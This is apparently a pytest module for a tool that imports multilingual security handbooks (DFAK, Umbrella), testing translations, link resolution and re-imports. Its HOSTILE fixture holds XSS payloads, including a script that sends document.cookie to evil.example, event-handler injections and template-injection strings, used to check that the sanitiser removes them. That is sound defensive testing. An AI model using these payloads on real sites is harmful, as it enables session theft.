"""Importing real handbooks: the whole DFAK set (six languages), Umbrella and the suffix layout;
translation groups, aliases, links, licences, sanitising, and re-imports that publish only changes."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from tequio.node import Node, TequioError
from tequio.plugins.handbook.publish import import_dir
from tequio.plugins.handbook.reading import history, page_view, rendered_html, resolve_page, toc
from tequio.plugins.handbook.recordkinds import page_id
from tests.conftest import FakeClock, seeded_rng
from tests.test_handbook_kit import DFAK, DFAK_LANGS, new_book, suffix_tree, umbrella_tree, write


@pytest.fixture(scope="module")
def dfak(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Node, bytes, dict]]:
    """One DFAK import for the read-only tests of this module (the slow part is done once)."""
    node = Node.create(
        tmp_path_factory.mktemp("dfak") / "n",
        name="Casa",
        kdf_profile="interactive",
        clock=FakeClock(),
        rng=seeded_rng(1),
    )
    book = new_book(node, DFAK_LANGS)
    out = import_dir(node, book, DFAK)
    yield node, book, out
    node.close()


def test_dfak_every_language_and_translation_group(dfak: tuple[Node, bytes, dict]) -> None:
    node, book, out = dfak
    assert out["format"] == "dfak" and out["licence"] == "CC-BY-SA-4.0"
    assert out["languages"] == {"en": 9, "es": 9, "fr": 8, "de": 8, "ru": 8, "nl": 3}
    assert out["pages"] == 45 and out["published"] == 45 and out["groups"] == 9
    # raw.md (de, fr) has no front matter: skipped with its reason, never published.
    raw = [s for s in out["skipped"] if s["path"].endswith("raw.md")]
    assert {s["path"] for s in raw} == {"_pages/de/raw.md", "_pages/fr/raw.md"}
    assert all("no front matter" in s["why"] for s in raw)
    # Translations are grouped by equal file names: one page id for every language's AccountHijacking.
    pid = page_id(book, "AccountHijacking")
    langs = {r["lang"] for r in history(node, book, pid)}
    assert langs == {"en", "es", "fr", "de", "ru"}
    # nl has three pages; the others show in the source language, marked untranslated.
    nl = toc(node, book, "nl")
    assert sum(1 for e in nl if e["translated"]) == 3 and len(nl) == 9
    assert all(e["lang"] == "en" for e in nl if not e["translated"])


def test_dfak_language_taken_from_the_folder_and_front_matter_quirks(dfak: tuple[Node, bytes, dict]) -> None:
    node, book, out = dfak
    noted = {n["path"] for n in out["notes"] if "taken from the folder" in n["what"]}
    assert "_pages/fr/Malware.md" in noted and "_pages/de/README.md" in noted
    fr = page_view(node, book, page_id(book, "Malware"), "fr")
    assert fr.shown == "fr" and fr.trusted
    # ru/Malware.md writes "permalink:/Вредоносное…" (no space): repaired, noted, imported.
    assert any("repaired" in n["what"] for n in out["notes"] if n["path"] == "_pages/ru/Malware.md")
    assert page_view(node, book, page_id(book, "Malware"), "ru").shown == "ru"


def test_dfak_translated_permalinks_and_redirect_aliases(dfak: tuple[Node, bytes, dict]) -> None:
    node, book, _ = dfak
    pid = page_id(book, "AccountHijacking")
    for name in (
        "HackeodeCuentas",
        "/es/HackeodeCuentas/",
        "/es/AccountHijacking/",
        "AccountHijacking",
        "Konto-Diebstahl",
    ):
        assert resolve_page(node, name, book) == (book, pid), name
    assert resolve_page(node, "Glosario", book) == (book, page_id(book, "Glossary"))
    es = next(e for e in toc(node, book, "es") if e["key"] == "DevicesSeized")
    assert es["slug"] == "/es/DispositivosIncautados/" and es["title"] == "Dispositivos Incautados"


def test_dfak_links_in_three_forms_resolve_or_are_reported(dfak: tuple[Node, bytes, dict]) -> None:
    node, book, out = dfak
    by_target: dict[str, str | None] = {}
    for lang in DFAK_LANGS:
        for e in toc(node, book, lang):
            v = page_view(node, book, bytes.fromhex(e["page"]), lang)
            for target, (page, _anchor) in v.links.items():
                by_target[target] = page.hex() if page else None
    sc = page_id(book, "SecureCommunication").hex()
    assert by_target["SecureCommunication.md#seeking-and-providing-remote-help"] == sc  # file name
    assert by_target["SecureCommunication"] == sc  # bare slug
    assert by_target["Glosario"] == page_id(book, "Glossary").hex()  # translated slug
    assert by_target["SecureCommunication_RU.md"] == sc  # a translator's leftover suffix
    unresolved = {(u["path"], u["link"]) for u in out["links"]["unresolved"]}
    assert ("_pages/de/README.md", "Referenz") in unresolved  # really broken in the source
    assert ("_pages/ru/README.md", "/ru/Взломучётныхзаписей/") in unresolved
    assert all(u["why"] for u in out["links"]["unresolved"])
    # Rendered, a resolved link reaches the page id; an anchor keeps its heading.
    v = page_view(node, book, page_id(book, "README"), "en")
    html, broken = rendered_html(v, lambda p, a: f"/p/{p.hex()}#{a}", lambda h: None)
    assert f'href="/p/{sc}#seeking-and-providing-remote-help"' in html and not broken


def test_reimporting_an_unchanged_tree_publishes_nothing(dfak: tuple[Node, bytes, dict]) -> None:
    node, book, _ = dfak
    before = node.count()
    again = import_dir(node, book, DFAK)
    assert again["published"] == 0 and again["unchanged"] == 45 and node.count() == before


def _copy_dfak(dst: Path) -> Path:
    import shutil

    shutil.copytree(DFAK, dst)
    return dst


def test_a_changed_source_page_publishes_one_revision_and_marks_translations_stale(
    make_node: Callable[..., Node], tmp_path: Path
) -> None:
    node = make_node()
    book = new_book(node, DFAK_LANGS)
    tree = _copy_dfak(tmp_path / "dfak")
    import_dir(node, book, tree)
    page = tree / "_pages/en/Malware.md"
    page.write_text(page.read_text() + "\nA new paragraph about ransomware.\n")
    out = import_dir(node, book, tree)
    assert out["published"] == 1 and out["unchanged"] == 44
    pid = page_id(book, "Malware")
    en = page_view(node, book, pid, "en")
    assert "ransomware" in en.text and not en.stale
    es = page_view(node, book, pid, "es")
    assert es.stale and es.translates != en.revision
    assert [b["text"] for b in es.banners if b["kind"] == "stale"] == [
        "La versión en inglés cambió después de esta traducción."
    ]
    # Untouched pages keep their translations fresh.
    assert not page_view(node, book, page_id(book, "Glossary"), "es").stale
    # History and diff: two English revisions, the first superseded.
    revs = [r for r in history(node, book, pid, "en")]
    assert [r["status"] for r in revs] == ["superseded", "current"] and revs[1]["prev"] == revs[0]["revision"]
    from tequio.plugins.handbook.reading import diff

    d = diff(node, bytes.fromhex(revs[0]["revision"]), bytes.fromhex(revs[1]["revision"]))
    assert "+A new paragraph about ransomware." in d
    # Updating the translation makes it fresh again, naming the new source revision.
    es_page = tree / "_pages/es/Malware.md"
    es_page.write_text(es_page.read_text() + "\nUn párrafo nuevo sobre ransomware.\n")
    out = import_dir(node, book, tree)
    assert out["published"] == 1
    es = page_view(node, book, pid, "es")
    assert not es.stale and es.translates == en.revision


def test_umbrella_layout(make_node: Callable[..., Node], tmp_path: Path) -> None:
    node = make_node()
    book = new_book(node, ["en", "es"])
    out = import_dir(node, book, umbrella_tree(tmp_path / "umbrella"))
    assert out["format"] == "umbrella" and out["licence"] == "GPL-3.0"
    assert out["checklists"] == 2 and out["forms"] == 2 and out["sections"] == 6
    assert out["images"] == 1  # one file, referred to by bare name from three pages in two languages
    assert out["links"]["unresolved"] == []
    key = "information/passwords/beginner/s_how-to-make-a-strong-password"
    es = page_view(node, book, page_id(book, key), "es")
    assert es.title == "Cómo crear una contraseña segura" and list(es.images) == ["keepassxc-1.png"]
    # The Spanish page uses the English tree's image, by its bare name.
    en = page_view(node, book, page_id(book, key), "en")
    assert es.images == en.images
    # umbrella://<cat>/<sub>/<level> reaches the level's first page; umbrella://…/s_x.md the segment.
    assert en.links["umbrella://information/passwords/advanced"][0] == page_id(
        book, "information/passwords/advanced/s_two-step-authentication"
    )
    assert en.links["umbrella://tools/encryption/s_keepassxc.md"][0] == page_id(
        book, "tools/encryption/s_keepassxc"
    )
    # A checklist renders as tick boxes, "check:text" without a space included; a form as fields.
    cl = page_view(node, book, page_id(book, "information/passwords/beginner/c_checklist"), "en")
    html, _ = rendered_html(cl, lambda p, a: "#", lambda h: None)
    assert (
        html.count('type="checkbox"') == 3 and "Never reuse passwords" in html and "Before you start" in html
    )
    form = page_view(node, book, page_id(book, "forms/f_digital-security-incident"), "en")
    fhtml, _ = rendered_html(form, lambda p, a: "#", lambda h: None)
    assert "<fieldset>" in fhtml and "Name:" in fhtml and "locked out" in fhtml
    sections = [e for e in toc(node, book, "es") if e["kind"] == "section"]
    assert {e["title"] for e in sections} >= {"Información", "Contraseñas", "Principiante"}


def test_suffix_layout(make_node: Callable[..., Node], tmp_path: Path) -> None:
    node = make_node()
    book = new_book(node, ["en", "es"], source="en")
    out = import_dir(node, book, suffix_tree(tmp_path / "site"))
    assert out["format"] == "suffix" and out["licence"] == "CC-BY-4.0"
    assert out["languages"] == {"en": 3, "es": 2} and out["images"] == 1
    assert {s["path"]: s["why"] for s in out["skipped"]}["drafts/wip.md"] == "draft: true"
    es = page_view(node, book, page_id(book, "devices/phones"), "es")
    assert es.title == "Teléfonos" and es.translates is not None and not es.stale
    en = page_view(node, book, page_id(book, "devices/phones"), "en")
    # Hugo's {{< ref "x" >}} is read as a link (never run as a shortcode).
    assert en.links["_index.md"] == (page_id(book, "_index"), "")
    assert resolve_page(node, "/old/phones/", book)[1] == page_id(book, "devices/phones")
    assert [u["link"] for u in out["links"]["unresolved"]] == ["nowhere.md"]
    # A page without a Spanish version is shown in English with the banner.
    v = page_view(node, book, page_id(book, "devices/laptops"), "es")
    assert v.shown == "en" and v.banners[0]["kind"] == "untranslated"
    assert "no está traducida al español" in v.banners[0]["text"]


HOSTILE = """---
title: "<script>alert(1)</script>Hostile"
---
# Hello

<script>fetch('http://evil.example/steal?c=' + document.cookie)</script>
<img src="http://evil.example/pixel.gif" onerror="alert(2)">
<a href="javascript:alert(3)">click</a> <a href="Other.md" onclick="x()">other</a>
<iframe src="http://evil.example/"></iframe><style>body{display:none}</style>
{% include evil.html %} {{ site.secret }} {{< shortcode "x" >}}
![pixel](http://evil.example/track.png) <svg onload="alert(4)"><circle/></svg>
[local](Other.md)
"""


def test_raw_html_and_template_code_are_sanitised_never_executed(
    make_node: Callable[..., Node], tmp_path: Path
) -> None:
    node = make_node()
    book = new_book(node, ["en"])
    root = write(tmp_path / "evil", {"Page.md": HOSTILE, "Other.md": "---\ntitle: Other\n---\nfine\n"})
    import_dir(node, book, root, "suffix")
    v = page_view(node, book, page_id(book, "Page"), "en")
    html, _broken = rendered_html(v, lambda p, a: f"other-{p.hex()[:6]}.html", lambda h: None)
    low = html.lower()
    for bad in (
        "<script",
        "onerror",
        "onclick",
        "javascript:",
        "<iframe",
        "<style",
        "evil.example",
        "<svg",
        "onload",
    ):
        assert bad not in low, bad
    for tmpl in ("{%", "{{", "include evil", "site.secret", "shortcode"):
        assert tmpl not in html, tmpl
    other = page_id(book, "Other").hex()[:6]
    assert html.count(f'href="other-{other}.html"') == 2  # raw <a> and Markdown link both rewritten
    assert (
        "Hello" in html and v.title == "<script>alert(1)</script>Hostile"
    )  # titles are text, escaped where shown


def test_bad_trees_are_refused_with_reasons(make_node: Callable[..., Node], tmp_path: Path) -> None:
    node = make_node()
    book = new_book(node, ["en"])
    root = write(
        tmp_path / "bad",
        {
            "ok.md": "---\ntitle: OK\n---\nfine\n",
            "broken.md": "---\ntitle: [unclosed\n---\nx\n",
            "binary.md": b"\xff\xfe\x00garbage",
            "never.md": "---\ntitle: never closed\n",
        },
    )
    (root / "huge.md").write_bytes(b"x" * (4 * 1024 * 1024 + 1))
    out = import_dir(node, book, root, "suffix")
    why = {s["path"]: s["why"] for s in out["skipped"]}
    assert out["pages"] == 1
    assert "not valid YAML" in why["broken.md"] and "not UTF-8" in why["binary.md"]
    assert "never closed" in why["never.md"] and "larger than" in why["huge.md"]
    with pytest.raises(TequioError, match="not a directory"):
        import_dir(node, book, root / "ok.md")
    stranger = Node.create(tmp_path / "stranger", name="X", kdf_profile="interactive")
    try:
        # A node that is not an editor cannot import (nothing is signed).
        from tequio.plugins.handbook.publish import follow

        stranger.ingest(node.export())
        follow(stranger, book)
        with pytest.raises(TequioError, match="not an editor"):
            import_dir(stranger, book, root, "suffix")
    finally:
        stranger.close()


def test_long_pages_travel_as_blobs(make_node: Callable[..., Node], tmp_path: Path) -> None:
    node = make_node()
    book = new_book(node, ["en"])
    text = "---\ntitle: Long\n---\n" + ("Una contraseña larga. " * 4000)
    import_dir(node, book, write(tmp_path / "long", {"long.md": text}), "suffix")
    v = page_view(node, book, page_id(book, "long"), "en")
    assert v.complete and v.text.count("contraseña") == 4000
    rec = node.get(v.revision)
    assert rec is not None and rec.payload is not None and rec.payload.body["text"] == ""
    assert json.dumps(rec.payload.body["text_blob"].hex())
